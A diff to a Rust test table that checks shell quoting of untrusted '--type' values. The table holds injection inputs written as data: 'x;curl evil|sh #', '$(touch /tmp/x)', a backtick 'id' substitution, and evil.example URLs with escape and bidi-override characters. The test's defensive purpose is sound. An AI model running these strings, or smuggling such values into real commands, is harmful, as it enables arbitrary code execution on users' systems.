@@ -320,7 +320,7 @@ fn a_predicate_type_of_a_stranger_is_quoted_for_the_shell_or_not_offered() {
     for (number, hostile, offered) in [
         (0, "x;curl evil|sh #", Some("--type 'x;curl evil|sh #' ")),
         (1, "$(touch /tmp/x)", Some("--type '$(touch /tmp/x)' ")),
-        (2, "it's `id`", Some("--type \"it's \\`id\\`\" ")),
+        (2, "it's `id`", Some("--type \"it's \"'`id`' ")),
         (3, &long, Some(&*format!("--type {long} "))),
         (4, "https://evil.example/\u{1b}[2J", None),
         (5, "https://evil.example/\u{202e}gpj", None),
